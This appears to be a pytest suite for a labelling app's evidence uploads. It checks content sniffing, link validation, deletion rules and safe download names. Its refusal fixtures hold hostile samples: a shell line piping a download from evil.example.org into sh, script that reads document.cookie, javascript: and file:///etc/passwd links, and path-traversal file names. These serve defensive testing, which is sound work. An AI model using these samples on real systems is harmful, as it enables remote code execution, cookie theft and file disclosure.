"""Evidence: file types judged by content, stored bytes, links, deletion while a draft."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import filetype
import pytest

from labelapp.db import db_session
from labelapp.models import Evidence
from labelapp.models import StoredFile
from labelapp.services import evidence as service
from labelapp.services import storage
from labelapp.services.answer_pages import ItemInput
from labelapp.services.answer_pages import Upload
from labelapp.services.answer_pages import save_page
from labelapp.services.errors import NotAllowed
from labelapp.services.workflow import submit_assessment
from tests.labelapp.services.factories import actor
from tests.labelapp.services.factories import audit_actions
from tests.labelapp.services.factories import complete_assessment
from tests.labelapp.services.factories import count
from tests.labelapp.services.factories import start

pytestmark = pytest.mark.usefixtures("ctx")

ITEM = "leadership-governance"  # a criterion whose evidence is required


def _zip(parts: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, content) in enumerate(parts):
            method = zipfile.ZIP_STORED if stored_first and number == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=method)
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1x1, 8-bit greyscale
    pixels = zlib.compress(b"\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
XML = b'<?xml version="1.0" encoding="UTF-8"?><root/>'
DOCX = _zip([("[Content_Types].xml", XML), ("_rels/.rels", XML), ("word/document.xml", XML)])
XLSX = _zip([("[Content_Types].xml", XML), ("_rels/.rels", XML), ("xl/workbook.xml", XML)])
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
ODS_TYPE = b"application/vnd.oasis.opendocument.spreadsheet"
ODT = _zip([("mimetype", ODT_TYPE), ("content.xml", XML)], stored_first=True)
ODS = _zip([("mimetype", ODS_TYPE), ("content.xml", XML)], stored_first=True)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"

ACCEPTED = [
    ("pdf", "application/pdf", PDF),
    ("png", "image/png", _png()),
    ("jpg", "image/jpeg", JPEG),
    ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", DOCX),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", XLSX),
    ("odt", ODT_TYPE.decode(), ODT),
    ("ods", ODS_TYPE.decode(), ODS),
]
# Office look-alikes: the sniffing library takes them for the format, the container check not.
FAKE_DOCX = _zip([("[Content_Types].xml", XML), ("word/evil.xml", XML)])
FAKE_ODT = _zip([("mimetype", ODT_TYPE), ("script.js", b"alert(1)")], stored_first=True)
REFUSED = {
    "empty": b"",
    "html": HTML,
    "shell script": b"#!/bin/sh\ncurl https://evil.example.org/x | sh\n",
    "windows executable": b"MZ\x90\x00" + b"\x00" * 60,
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "plain zip": _zip([("notes.txt", b"hello")]),
    "docx without word/document.xml": FAKE_DOCX,
    "odt without content.xml": FAKE_ODT,
    "docx without its central directory": DOCX[: DOCX.index(b"PK\x01\x02")],
}


@pytest.mark.parametrize(
    ("extension", "media_type", "data"), ACCEPTED, ids=[a[0] for a in ACCEPTED]
)
def test_sniff_recognises_allowed_documents_by_content(extension, media_type, data):
    kind = storage.sniff(data)
    assert (kind.extension, kind.media_type) == (extension, media_type)


def test_the_look_alikes_do_fool_the_sniffing_library():
    """Otherwise the refusal tests below would not exercise the container check."""
    assert filetype.guess(FAKE_DOCX).extension == "docx"
    assert filetype.guess(FAKE_ODT).extension == "odt"
    assert filetype.guess(REFUSED["docx without its central directory"]).extension == "docx"


@pytest.mark.parametrize("data", list(REFUSED.values()), ids=list(REFUSED))
def test_sniff_refuses_other_content(data):
    with pytest.raises(storage.RefusedFile):
        storage.sniff(data)


def test_store_file_keeps_bytes_hash_and_size_under_random_keys():
    first = storage.store_file(db_session(), PDF, "application/pdf")
    second = storage.store_file(db_session(), PDF, "application/pdf")
    assert first.key != second.key
    assert len(first.key) >= 32
    assert (first.size, first.sha256) == (len(PDF), hashlib.sha256(PDF).hexdigest())


@pytest.mark.parametrize("url", ["https://example.org/report.pdf", "HTTP://example.org/a?b=1"])
def test_a_link_is_evidence_when_it_is_a_web_address(manager, url):
    evidence = service.link(actor(manager), ITEM, url)
    assert (evidence.url, evidence.is_file, evidence.item_id) == (url, False, ITEM)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript://%0aalert(1)",
        "ftp://files.example.org/report.pdf",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "www.example.org",
        "https://",
        "https://example.org/" + "a" * 2000,
    ],
)
def test_other_links_are_refused(manager, url):
    with pytest.raises(service.RefusedEvidence, match="Enter a full web address"):
        service.link(actor(manager), ITEM, url)


@pytest.mark.parametrize(("name", "data"), [("minutes.pdf", HTML), ("a.docx", FAKE_DOCX)])
def test_a_refused_document_stores_nothing(manager, name, data):
    with pytest.raises(service.RefusedEvidence, match="checked by content"):
        service.document(db_session(), actor(manager), ITEM, name, data)
    assert count(db_session(), StoredFile) == 0


def _attach(manager, assessment, **given):
    saved = save_page(db_session(), actor(manager), assessment, {ITEM: ItemInput(**given)}, None)
    assert not saved.refused
    return saved.added[0]


def test_deleting_evidence_from_a_draft_removes_the_stored_file(manager):
    assessment = start(db_session(), manager)
    document = _attach(manager, assessment, upload=Upload("a.png", _png()))
    link = _attach(manager, assessment, link="https://x.org/a")
    key = document.file_key
    service.delete_evidence(db_session(), actor(manager), document)
    db_session().commit()
    db_session().expire_all()
    assert db_session().get(StoredFile, key) is None
    assert assessment.evidence == [link]
    assert audit_actions(db_session())[-1] == "evidence.deleted"
    service.delete_evidence(db_session(), actor(manager), link)
    assert count(db_session(), Evidence) == 0


def test_evidence_cannot_be_deleted_once_submitted(manager, make_user):
    assessment = complete_assessment(db_session(), manager)
    document = _attach(manager, assessment, upload=Upload("a.pdf", PDF))
    with pytest.raises(NotAllowed):
        service.delete_evidence(db_session(), actor(make_user()), document)
    submit_assessment(db_session(), actor(manager), assessment, assessment.row_version)
    evidence_count = count(db_session(), Evidence)
    with pytest.raises(NotAllowed, match="submitted"):
        service.delete_evidence(db_session(), actor(manager), document)
    with pytest.raises(NotAllowed):
        _attach(manager, assessment, upload=Upload("b.pdf", PDF))
    assert count(db_session(), Evidence) == evidence_count
    assert db_session().get(StoredFile, document.file_key) is not None


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("C:\\Users\\anna\\Desktop\\report.exe", "pdf", "report.pdf"),
        ("/var/www/static/evil.html", "png", "evil.png"),
        ("Raport roczny 2025.pdf", "pdf", "Raport roczny 2025.pdf"),
        ("report.docx", "pdf", "report.pdf"),
        ("report", "jpg", "report.jpg"),
        ('bad"name<>|:*?.png', "png", "badname.png"),
        ("line\r\nbreak\x00.odt", "odt", "linebreak.odt"),
        ("", "xlsx", "evidence.xlsx"),
        (".htaccess", "pdf", "evidence.pdf"),
        ("folder/", "pdf", "evidence.pdf"),
        ("a" * 300 + ".pdf", "pdf", "a" * 120 + ".pdf"),
    ],
)
def test_safe_download_name_strips_paths_and_forces_the_true_extension(name, extension, expected):
    assert storage.safe_download_name(name, extension) == expected
